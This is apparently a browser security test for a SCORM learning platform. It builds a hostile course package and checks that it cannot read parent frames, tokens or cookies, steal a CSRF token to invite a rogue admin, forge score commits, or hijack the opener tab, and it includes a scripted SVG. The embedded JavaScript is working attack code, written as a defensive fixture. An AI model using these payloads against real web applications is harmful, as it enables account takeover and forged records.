/**
 * A hostile package in Chromium (issue 13, "a package acts as whoever opens it"). The test builds a
 * SCO that tries what the security review did — read its parents and the player's attempt token,
 * fetch app pages with the user's cookies, steal a CSRF token and invite an admin, read
 * /api/v1/me/progress, send forged commits, talk to the player's CrossFrameLMS with methods it
 * must refuse, navigate the app away — and an SVG with a script opened directly. Opened by an
 * admin and by a Lotse (and once by an admin with the content CSP switched off in the browser, to
 * show that the origin split holds on its own): nothing happens, checked in the database and in
 * what the hostile page itself observed.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { startServer, launchBrowser, login, scoFrame, type RunningServer } from './helpers/browser';
import { makeUser, PASSWORD } from '../helpers/users';
import { importPackage, contentBaseFor, setOpenInNewWindow, type ImportedPackage } from '../../src/packages';
import type { UserView } from '../../src/auth/user-model';

let srv: RunningServer;
let browser: Browser;
let pkg: ImportedPackage;
let windowPkg: ImportedPackage;
let work: string;
let windowWork: string;

const MANIFEST = `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="harmless_looking" version="1.0" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>Harmlos</title>
    <item identifier="i" identifierref="r"><title>Harmlos</title></item></organization></organizations>
  <resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="index.html"><file href="index.html"/><file href="evil.svg"/></resource></resources>
</manifest>`;

/** Everything the page tries, and what it saw, goes into #obs as JSON. */
function hostileHtml(app: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>Harmlos</title></head><body>
<p>Harmloser Inhalt</p><pre id="obs"></pre>
<script>
var APP = ${JSON.stringify(app)};
var obs = { ancestor: location.ancestorOrigins ? Array.prototype.slice.call(location.ancestorOrigins) : [] };
var api = null;
try { api = parent.API || null; obs.apiInParent = !!api; } catch (e) { obs.apiInParent = 'error'; }
if (api) api.LMSInitialize('');
try {
  var html = parent.document.documentElement.outerHTML + ' ' + parent.location.href;
  obs.parentReadable = true;
  obs.parentHasAttemptToken = /token=|player-data|attemptId/.test(html);
} catch (e) { obs.parentReadable = false; }
try { obs.top = top.document.documentElement.outerHTML.length; } catch (e) { obs.top = 'blocked'; }
try { obs.topHref = top.location.href; } catch (e) { obs.topHref = 'blocked'; }
try { obs.playerData = top.document.getElementById('player-data').textContent; } catch (e) { obs.playerData = 'blocked'; }
try { obs.openerOrTop = parent.parent.API ? 'api-visible' : 'nothing'; } catch (e) { obs.openerOrTop = 'blocked'; }
obs.localStorage = Object.keys(localStorage);
obs.cookies = document.cookie;
function attempt(name, p) { return p.then(function (r) { obs[name] = r; }, function (e) { obs[name] = 'error:' + (e && e.name); }); }
var beacons = [];
for (var a = 1; a <= 10; a++) {
  for (var s = 1; s <= 5; s++) {
    try {
      beacons.push(navigator.sendBeacon(APP + '/api/v1/attempts/' + a + '/scos/' + s + '/commit?launch=1',
        new Blob([JSON.stringify({ cmi: { core: { lesson_status: 'passed', lesson_location: 'forged', score: { raw: '100' } } }, commitSequence: 999 })], { type: 'text/plain' })));
    } catch (e) { beacons.push('error:' + e.name); }
  }
}
obs.beacons = beacons.filter(function (b) { return b === true; }).length;
Promise.all([
  attempt('inviteForm', fetch(APP + '/admin/users/invite', { credentials: 'include' }).then(function (r) { return r.text(); }).then(function (t) {
    var m = /name="_csrf" value="([^"]+)"/.exec(t);
    if (!m) return 'no-token';
    return fetch(APP + '/admin/users/invite', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: '_csrf=' + encodeURIComponent(m[1]) + '&email=evil%40example.org&role=admin&firstName=E&lastName=Vil' }).then(function (r) { return 'invited:' + r.status; });
  })),
  attempt('blindInvite', fetch(APP + '/admin/users/invite', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: 'email=evil2%40example.org&role=admin&firstName=E&lastName=Vil' }).then(function (r) { return 'sent:' + r.type; })),
  attempt('progress', fetch(APP + '/api/v1/me/progress', { credentials: 'include' }).then(function (r) { return r.text(); })),
  attempt('lms', new Promise(function (resolve) {
    window.addEventListener('message', function (e) { if (e.data && e.data.messageId === 'evil-1') resolve(e.data.error ? 'refused:' + e.data.error.message : 'answered'); });
    try { top.postMessage({ messageId: 'evil-1', method: 'loadFromJSON', params: [{ core: { lesson_status: 'passed' } }] }, '*'); } catch (e) { resolve('error:' + e.name); }
    setTimeout(function () { resolve('no-answer'); }, 4000);
  })),
]).then(function () {
  try { top.location.href = APP + '/admin/users'; obs.topNavigation = 'tried'; } catch (e) { obs.topNavigation = 'blocked:' + e.name; }
  document.getElementById('obs').textContent = JSON.stringify(obs);
});
</script></body></html>`;
}

/** Opened in a window of its own, content tries to take over the app tab that opened it. */
function openerHijackHtml(app: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>Harmlos</title></head><body>
<p>Harmloser Inhalt</p><pre id="obs"></pre>
<script>
var obs = { hasOpener: !!(top.opener) };
try { top.opener.location.href = ${JSON.stringify(app)} + '/login?hijacked=1'; obs.opener = 'tried'; } catch (e) { obs.opener = 'blocked:' + e.name; }
try { top.opener.location.replace(${JSON.stringify(app)} + '/login?hijacked=2'); obs.openerReplace = 'tried'; } catch (e) { obs.openerReplace = 'blocked:' + e.name; }
// The launcher is on the same (content) origin: run a package script there, at the window's top level.
try {
  var s = top.document.createElement('script');
  s.src = location.href.replace(/[^/]*$/, 'hijack.js');
  top.document.body.appendChild(s);
  obs.injected = true;
} catch (e) { obs.injected = 'blocked:' + e.name; }
document.getElementById('obs').textContent = JSON.stringify(obs);
</script></body></html>`;
}

const HIJACK_JS = (app: string) =>
  `try { opener.location.href = ${JSON.stringify(app)} + '/login?hijacked=3'; } catch (e) {}`;

const EVIL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>
<script>document.documentElement.setAttribute('data-ran', 'yes');</script></svg>`;

beforeAll(async () => {
  srv = await startServer();
  browser = await launchBrowser();
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'gezu-hostile-'));
  fs.writeFileSync(path.join(work, 'imsmanifest.xml'), MANIFEST);
  fs.writeFileSync(path.join(work, 'index.html'), hostileHtml(srv.baseUrl));
  fs.writeFileSync(path.join(work, 'evil.svg'), EVIL_SVG);
  pkg = await importPackage(srv.ctx.services.packages, work, { actorId: null });
  windowWork = fs.mkdtempSync(path.join(os.tmpdir(), 'gezu-hostile-window-'));
  fs.writeFileSync(
    path.join(windowWork, 'imsmanifest.xml'),
    MANIFEST.replace('<file href="evil.svg"/>', '<file href="hijack.js"/>'),
  );
  fs.writeFileSync(path.join(windowWork, 'index.html'), openerHijackHtml(srv.baseUrl));
  fs.writeFileSync(path.join(windowWork, 'hijack.js'), HIJACK_JS(srv.baseUrl));
  windowPkg = await importPackage(srv.ctx.services.packages, windowWork, { actorId: null });
  await setOpenInNewWindow(windowPkg.id, true, null);
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await srv?.stop();
  if (work) fs.rmSync(work, { recursive: true, force: true });
  if (windowWork) fs.rmSync(windowWork, { recursive: true, force: true });
});

async function counts(): Promise<Record<string, number>> {
  const out: Record<string, number> = {};
  for (const table of ['users', 'auth_tokens', 'audit_log']) {
    const row = (await srv.ctx.sequelize.query(`SELECT COUNT(*) AS n FROM ${table}`, { plain: true })) as { n: number };
    out[table] = Number(row.n);
  }
  return out;
}

async function forgedRows(): Promise<number> {
  const row = (await srv.ctx.sequelize.query(
    "SELECT COUNT(*) AS n FROM sco_attempts WHERE location = 'forged' OR score_raw = 100",
    { plain: true },
  )) as { n: number };
  return Number(row.n);
}

async function openHostile(
  user: UserView,
  opts: { bypassCSP?: boolean } = {},
): Promise<{ page: Page; obs: Record<string, unknown> }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, bypassCSP: !!opts.bypassCSP });
  const page = await context.newPage();
  await login(page, srv.baseUrl, user.email, PASSWORD);
  // The user has something worth stealing: a started attempt (its token sits in the player page).
  await page.goto(`${srv.baseUrl}/play/${pkg.id}`);
  const sco = await scoFrame(page);
  await sco.waitForSelector('#obs:not(:empty)', { timeout: 20_000 });
  const obs = JSON.parse((await sco.textContent('#obs'))!);
  return { page, obs };
}

function expectNothingGained(obs: Record<string, unknown>): void {
  // The API is reachable as designed; the app window and the attempt token are not.
  expect(obs.apiInParent).toBe(true);
  expect(obs.parentHasAttemptToken).toBe(false);
  expect(obs.top).toBe('blocked');
  expect(obs.topHref).toBe('blocked');
  expect(obs.playerData).toBe('blocked');
  expect(obs.openerOrTop).toBe('blocked');
  expect(obs.localStorage).toEqual([]);
  expect(obs.cookies).toBe('');
  // No app page, no CSRF token, no progress could be read.
  expect(String(obs.inviteForm)).toMatch(/^error:/);
  expect(String(obs.progress)).toMatch(/^error:/);
  // The player's CrossFrameLMS answers only SCORM methods.
  expect(obs.lms).toBe('refused:Method not allowed: loadFromJSON');
}

describe('a hostile package opened in the player', () => {
  it.each(['admin', 'lotse'] as const)(
    'when a %s opens it, then it reads nothing of the app, invites nobody, forges no commit and cannot navigate the app',
    async (role) => {
      const user = await makeUser(role);
      const before = await counts();
      const { page, obs } = await openHostile(user);
      expectNothingGained(obs);
      // (sendBeacon says "queued" even when the content CSP then stops the request: the database decides.)
      expect(page.url()).toBe(`${srv.baseUrl}/play/${pkg.id}`);
      const after = await counts();
      expect(after.users).toBe(before.users);
      expect(after.auth_tokens).toBe(before.auth_tokens);
      expect(
        await srv.ctx.sequelize.query("SELECT id FROM users WHERE email LIKE 'evil%'", { plain: true }),
      ).toBeNull();
      expect(await forgedRows()).toBe(0);
      await page.context().close();
    },
    90_000,
  );

  it('when an admin opens it with the content CSP switched off in the browser, then the origin split alone still keeps the app safe', async () => {
    const admin = await makeUser('admin');
    const before = await counts();
    const { page, obs } = await openHostile(admin, { bypassCSP: true });
    expectNothingGained(obs);
    // Blind requests now leave (same-site, so with cookies), but without a CSRF token or the attempt
    // token they change nothing; their answers are unreadable (CORS) or refused (the app's CORP).
    expect(page.url()).toBe(`${srv.baseUrl}/play/${pkg.id}`);
    const after = await counts();
    expect(after.users).toBe(before.users);
    expect(after.auth_tokens).toBe(before.auth_tokens);
    expect(await srv.ctx.sequelize.query("SELECT id FROM users WHERE email LIKE 'evil%'", { plain: true })).toBeNull();
    expect(await forgedRows()).toBe(0);
    await page.context().close();
  }, 90_000);

  it('when a window of another origin than the content origin posts SCORM calls to the player, then CrossFrameLMS ignores them', async () => {
    const user = await makeUser('lotse');
    const { page } = await openHostile(user);
    // The app page itself is such a window (app origin ≠ content origin): a SetValue and a Commit from it.
    await page.evaluate(() => {
      window.postMessage(
        { messageId: 'x-1', method: 'LMSSetValue', params: ['cmi.core.lesson_location', 'wrong-origin'] },
        '*',
      );
      window.postMessage({ messageId: 'x-2', method: 'LMSCommit', params: [''] }, '*');
    });
    // The SCO's own commit afterwards goes through; the location it carries is not the forged one.
    await page.goto(`${srv.baseUrl}/learning`);
    const row = (await srv.ctx.sequelize.query('SELECT location FROM sco_attempts WHERE user_id = ?', {
      replacements: [user.id],
      plain: true,
    })) as { location: string | null };
    expect(row.location).not.toBe('wrong-origin');
    await page.context().close();
  }, 90_000);

  it('when a package opened in a new window tries to navigate the app tab that opened it, then the app tab stays where it is', async () => {
    const user = await makeUser('lotse');
    const context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
    const page = await context.newPage();
    await login(page, srv.baseUrl, user.email, PASSWORD);
    await page.goto(`${srv.baseUrl}/play/${windowPkg.id}`);
    const [popup] = await Promise.all([
      context.waitForEvent('page'),
      page.getByRole('button', { name: /neuem Fenster/ }).click(),
    ]);
    const handle = await popup.waitForSelector('#sco-frame[src^="/c/"]', { state: 'attached' });
    const sco = (await handle.contentFrame())!;
    await sco.waitForSelector('#obs:not(:empty)', { timeout: 20_000 });
    const obs = JSON.parse((await sco.textContent('#obs'))!);
    // The launcher window is sandboxed (CSP sandbox without top or opener navigation), and so is the SCO in it.
    expect(obs.hasOpener).toBe(true);
    expect(obs.injected).toBe(true); // a package script runs in the launcher window, but sandboxed
    await page.waitForTimeout(1500);
    expect(page.url()).toBe(`${srv.baseUrl}/play/${windowPkg.id}`);
    await context.close();
  }, 90_000);

  it('when its SVG is opened directly on the content origin, then its script does not run', async () => {
    const admin = await makeUser('admin');
    const context = await browser.newContext();
    const page = await context.newPage();
    await login(page, srv.baseUrl, admin.email, PASSWORD);
    const res = await page.goto(
      `${contentBaseFor(srv.ctx.services.packages.content, pkg.versionId, admin.id).base}evil.svg`,
    );
    expect(res!.status()).toBe(200);
    expect(res!.headers()['content-security-policy']).toMatch(/^sandbox;/);
    expect(new URL(page.url()).origin).toBe(srv.contentUrl);
    expect(await page.evaluate(() => document.documentElement.getAttribute('data-ran'))).toBeNull();
    await context.close();
  }, 60_000);
});
